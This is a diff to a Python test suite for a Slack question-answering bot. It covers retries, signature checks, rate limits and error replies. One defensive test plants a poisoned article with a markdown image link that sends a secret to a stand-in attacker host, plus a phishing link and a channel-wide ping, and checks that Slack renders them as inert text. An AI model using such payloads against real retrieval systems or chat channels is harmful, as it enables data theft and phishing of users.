@@ -19,6 +19,7 @@ from api.slack import (
     EMPTY_CORPUS_TEXT,
     EMPTY_QUESTION_TEXT,
     FAILED_TEXT,
+    SLACK_DOWN_TEXT,
     THINKING_TEXT,
     slack_router,
 )
@@ -36,7 +37,6 @@ from tests.slack.conftest import (
     LENDING_SOURCE,
     STANDALONE_FOLLOW_UP,
     SlackSender,
-    calls_outside_sentinel,
     sign,
 )
 from tests.slack.fake_slack import BOT_ID, BOT_USER_ID, FakeSlack
@@ -81,7 +81,7 @@ def test_mention_gets_a_placeholder_then_the_answer_with_sources_in_its_thread(
     assert blocks[0] == {
         "type": "section",
         "block_id": ANSWER_BLOCK_ID,
-        "text": {"type": "mrkdwn", "text": LENDING_ANSWER},
+        "text": {"type": "mrkdwn", "text": LENDING_ANSWER, "verbatim": True},
     }
     sources = block_texts(blocks[1:])
     assert f"*[1]* `{LENDING_SOURCE}` · 2023-10-18" in sources
@@ -165,31 +165,60 @@ def test_unanswerable_question_says_the_articles_do_not_contain_it(
 # --- retries, duplicates and forgery --------------------------------------------------------
 
 
+RETRY = {"X-Slack-Retry-Num": "1", "X-Slack-Retry-Reason": "http_timeout"}
+
+
 def test_slack_retry_is_acknowledged_without_a_second_answer(
     slack: SlackSender, fake_slack: FakeSlack
 ) -> None:
     _, payload = slack.mention(f"{MENTION} {LENDING_QUESTION}")
     slack.post(payload)
     wait_for_answer(fake_slack, "C1")
+    slack.settle(payload)
 
-    retry = {"X-Slack-Retry-Num": "1", "X-Slack-Retry-Reason": "http_timeout"}
-    assert slack.post(payload, headers=retry).status_code == 200
-    slack.drain()
+    assert slack.post(payload, headers=RETRY).status_code == 200
+    slack.settle(payload)
 
-    assert len(calls_outside_sentinel(fake_slack, "chat.postMessage")) == 1
-    assert len(calls_outside_sentinel(fake_slack, "chat.update")) == 1
+    assert len(fake_slack.posts()) == 1
+    assert len(fake_slack.updates()) == 1
 
 
-def test_a_retry_is_ignored_even_when_its_first_delivery_was_not_seen(
+def test_a_retry_whose_first_delivery_was_lost_is_answered(
     slack: SlackSender, fake_slack: FakeSlack
 ) -> None:
-    _, payload = slack.mention(f"{MENTION} {LENDING_QUESTION}")
+    # The first delivery died at a proxy or with a restarting worker: only the retry arrives.
+    ts, payload = slack.mention(f"{MENTION} {LENDING_QUESTION}")
 
     response = slack.post(payload, headers={"X-Slack-Retry-Num": "2"})
-    slack.drain()
 
     assert response.status_code == 200
-    assert calls_outside_sentinel(fake_slack, "chat.postMessage") == []
+    assert wait_for_answer(fake_slack, "C1")["text"] == LENDING_ANSWER
+    assert fake_slack.posts() == [{"channel": "C1", "thread_ts": ts, "text": THINKING_TEXT}]
+
+
+def test_a_retry_while_the_first_delivery_is_being_answered_is_dropped(
+    serve: Callable[[RagService], SlackSender],
+    service_for: Callable[..., RagService],
+    fake_slack: FakeSlack,
+) -> None:
+    release = threading.Event()
+
+    def slow_model(messages: Sequence[Message]) -> str:
+        release.wait(timeout=30)
+        return LENDING_ANSWER
+
+    slack = serve(service_for(FakeChatModel(slow_model)))
+    _, payload = slack.mention(f"{MENTION} {LENDING_QUESTION}")
+    try:
+        assert slack.post(payload).status_code == 200
+        fake_slack.wait_for(lambda: len(fake_slack.posts()) == 1)  # it is answering now
+        assert slack.post(payload, headers=RETRY).status_code == 200
+    finally:
+        release.set()
+    slack.settle(payload)
+
+    assert len(fake_slack.posts()) == 1
+    assert [u["text"] for u in fake_slack.updates()] == [LENDING_ANSWER]
 
 
 def test_duplicate_event_id_is_answered_once(slack: SlackSender, fake_slack: FakeSlack) -> None:
@@ -197,10 +226,27 @@ def test_duplicate_event_id_is_answered_once(slack: SlackSender, fake_slack: Fak
 
     assert slack.post(payload).status_code == 200
     assert slack.post(payload).status_code == 200
-    slack.drain()
+    slack.settle(payload)
 
-    assert len(calls_outside_sentinel(fake_slack, "chat.postMessage")) == 1
-    assert len(calls_outside_sentinel(fake_slack, "chat.update")) == 1
+    assert len(fake_slack.posts()) == 1
+    assert len(fake_slack.updates()) == 1
+
+
+def test_an_event_slack_took_no_reply_for_is_answered_by_its_redelivery(
+    slack: SlackSender, fake_slack: FakeSlack
+) -> None:
+    fake_slack.errors["chat.postMessage"] = "fatal_error"
+    _, payload = slack.mention(f"{MENTION} {LENDING_QUESTION}")
+    slack.post(payload)
+    slack.settle(payload)
+    assert slack.ledger is not None and slack.ledger.state(payload["event_id"]) is None
+
+    del fake_slack.errors["chat.postMessage"]
+    slack.post(payload, headers=RETRY)
+
+    assert wait_for_answer(fake_slack, "C1")["text"] == LENDING_ANSWER
+    slack.settle(payload)
+    assert slack.ledger.state(payload["event_id"]) == "finished"
 
 
 def test_forged_signature_is_rejected_with_401_and_nothing_posted(
@@ -209,10 +255,10 @@ def test_forged_signature_is_rejected_with_401_and_nothing_posted(
     _, payload = slack.mention(f"{MENTION} {LENDING_QUESTION}")
 
     response = slack.post(payload, secret="not-the-signing-secret")
-    slack.drain()
+    slack.settle(payload)
 
     assert response.status_code == 401
-    assert calls_outside_sentinel(fake_slack, "chat.postMessage") == []
+    assert fake_slack.calls == []
 
 
 def test_unsigned_request_is_rejected_with_401(slack: SlackSender, fake_slack: FakeSlack) -> None:
@@ -230,10 +276,10 @@ def test_stale_timestamp_is_rejected_with_401_and_nothing_posted(
     _, payload = slack.mention(f"{MENTION} {LENDING_QUESTION}")
 
     response = slack.post(payload, timestamp=int(time.time()) - 6 * 60)
-    slack.drain()
+    slack.settle(payload)
 
     assert response.status_code == 401
-    assert calls_outside_sentinel(fake_slack, "chat.postMessage") == []
+    assert fake_slack.calls == []
 
 
 # --- what is not a question -----------------------------------------------------------------
@@ -254,9 +300,9 @@ def test_messages_that_are_not_questions_are_ignored(
     _, payload = slack.dm(LENDING_QUESTION, **fields)
 
     assert slack.post(payload).status_code == 200
-    slack.drain()
+    slack.settle(payload)
 
-    assert calls_outside_sentinel(fake_slack, "chat.postMessage") == []
+    assert fake_slack.posts() == []
 
 
 def test_bare_mention_gets_a_hint_instead_of_an_answer(
@@ -265,13 +311,10 @@ def test_bare_mention_gets_a_hint_instead_of_an_answer(
     ts, payload = slack.mention(f"  {MENTION}  ")
     slack.post(payload)
 
-    fake_slack.wait_for(lambda: len(fake_slack.posts()) == 1)
-    slack.drain()
+    slack.settle(payload)
 
-    assert calls_outside_sentinel(fake_slack, "chat.postMessage") == [
-        {"channel": "C1", "thread_ts": ts, "text": EMPTY_QUESTION_TEXT}
-    ]
-    assert calls_outside_sentinel(fake_slack, "chat.update") == []
+    assert fake_slack.posts() == [{"channel": "C1", "thread_ts": ts, "text": EMPTY_QUESTION_TEXT}]
+    assert fake_slack.updates() == []
 
 
 # --- errors become replies ------------------------------------------------------------------
@@ -364,6 +407,124 @@ def test_answer_falls_back_to_text_when_slack_rejects_the_blocks(
     fallback = wait_for_answer(fake_slack, "C1", count=2)
     assert "blocks" in fake_slack.updates("C1")[0]
     assert fallback == {"channel": "C1", "ts": fallback["ts"], "text": LENDING_ANSWER}
+
+
+# --- article text is untrusted -------------------------------------------------------------
+
+INJECTED_ARTICLE = """ date 2024-07-05 Bergen harbour authority publishes its annual report
+
+Cargo volumes at the Bergen harbour rose *4 percent* to 61 million tonnes, said the report \
+![x](http://evil.example/leak?d=secret) <http://evil.example/phish|click here> _now_ ~or~ `never` \
+at www.evil.example <!channel>.
+
+The authority expects volumes to keep growing next year as the new container quay opens.
+"""
+HARBOUR_QUESTION = "By how much did cargo volumes at the Bergen harbour rise?"
+HARBOUR_ANSWER = "Cargo volumes at the Bergen harbour rose 4 percent to 61 million tonnes [1]."
+
+
+def test_links_and_markup_in_an_article_reach_slack_as_inert_text(
+    serve: Callable[[RagService], SlackSender],
+    service_for: Callable[..., RagService],
+    fake_slack: FakeSlack,
+    tmp_path: Path,
+) -> None:
+    service = service_for(FakeChatModel(HARBOUR_ANSWER), data_dir=tmp_path / "poisoned")
+    service.add_document(INJECTED_ARTICLE.encode(), "harbour_report.txt")
+    slack = serve(service)
+    _, payload = slack.mention(f"{MENTION} {HARBOUR_QUESTION}")
+    slack.post(payload)
+    slack.settle(payload)
+
+    [update] = fake_slack.updates("C1")
+    assert update["text"] == HARBOUR_ANSWER
+    sources = [e for b in update["blocks"] if b["type"] == "context" for e in b["elements"]]
+    quote = sources[-1]["text"].split("\n", 1)[1]
+    assert "evil.example" in quote, "the quote is from the injected sentence"
+    for marker in ("*", "_", "~", "`", "<", ">", "://", "www."):
+        assert marker not in quote, f"{marker!r} came back from the article in {quote!r}"
+    assert all(e["verbatim"] is True for e in sources), "Slack must not link-ify quotes"
+
+
+# --- Slack rate limits (HTTP 429 with Retry-After) -----------------------------------------
+
+
+def test_a_429_on_chat_update_is_waited_out_and_the_sources_are_kept(
+    slack: SlackSender, fake_slack: FakeSlack
+) -> None:
+    fake_slack.rate_limit("chat.update", times=2, retry_after=0)
+    _, payload = slack.mention(f"{MENTION} {LENDING_QUESTION}")
+    slack.post(payload)
+    slack.settle(payload)
+
+    [update] = fake_slack.updates("C1")
+    assert update["text"] == LENDING_ANSWER
+    assert LENDING_SOURCE in block_texts(update["blocks"]), "a 429 is not a refusal of blocks"
+    assert [c.method for c in fake_slack.throttled] == ["chat.update", "chat.update"]
+
+
+def test_a_429_on_chat_post_message_is_retried_after_its_retry_after(
+    slack: SlackSender, fake_slack: FakeSlack
+) -> None:
+    fake_slack.rate_limit("chat.postMessage", times=1, retry_after=1)
+    ts, payload = slack.mention(f"{MENTION} {LENDING_QUESTION}")
+    slack.post(payload)
+    slack.settle(payload)
+
+    assert fake_slack.posts() == [{"channel": "C1", "thread_ts": ts, "text": THINKING_TEXT}]
+    assert fake_slack.updates("C1")[0]["text"] == LENDING_ANSWER
+    [limited] = fake_slack.throttled
+    posted = next(c for c in fake_slack.calls if c.method == "chat.postMessage")
+    assert posted.at - limited.at >= 1.0, "the retry came before Retry-After"
+
+
+def test_a_429_on_conversations_replies_still_answers_with_the_history(
+    slack: SlackSender, fake_slack: FakeSlack
+) -> None:
+    root_ts, first = slack.mention(f"{MENTION} {LENDING_QUESTION}")
+    slack.post(first)
+    slack.settle(first)
+    fake_slack.rate_limit("conversations.replies", times=1, retry_after=0)
+
+    _, follow_up = slack.mention(f"{MENTION} {FOLLOW_UP}", thread_ts=root_ts)
+    slack.post(follow_up)
+    slack.settle(follow_up)
+
+    assert fake_slack.updates("C1")[1]["text"] == BANKS_ANSWER
+    assert [c.method for c in fake_slack.throttled] == ["conversations.replies"]
+
+
+def test_slack_staying_rate_limited_ends_with_an_error_reply_not_the_placeholder(
+    serve: Callable[[RagService], SlackSender],
+    service: RagService,
+    settings: Settings,
+    fake_slack: FakeSlack,
+) -> None:
+    settings.slack.rate_limit_retries = 1
+    slack = serve(service)
+    fake_slack.rate_limit("chat.update", times=1_000, retry_after=0)
+    ts, payload = slack.mention(f"{MENTION} {LENDING_QUESTION}")
+    slack.post(payload)
+    slack.settle(payload)
+
+    assert [p["text"] for p in fake_slack.posts("C1")] == [THINKING_TEXT, SLACK_DOWN_TEXT]
+    assert fake_slack.posts("C1")[1]["thread_ts"] == ts
+    assert slack.ledger is not None and slack.ledger.state(payload["event_id"]) == "finished"
+
+
+def test_an_error_reply_replaces_the_placeholder_when_only_the_answer_is_refused(
+    slack: SlackSender, fake_slack: FakeSlack
+) -> None:
+    # The answer's edit is rate limited past its retries (1 + 3 tries); the short error edit
+    # after it gets through.
+    fake_slack.rate_limit("chat.update", times=4, retry_after=0)
+    _, payload = slack.mention(f"{MENTION} {LENDING_QUESTION}")
+    slack.post(payload)
+    slack.settle(payload)
+
+    [message] = fake_slack.bot_messages("C1")
+    assert message["text"] == SLACK_DOWN_TEXT
+    assert len(fake_slack.throttled) == 4
 
 
 # --- in-process, through FastAPI's TestClient ----------------------------------------------
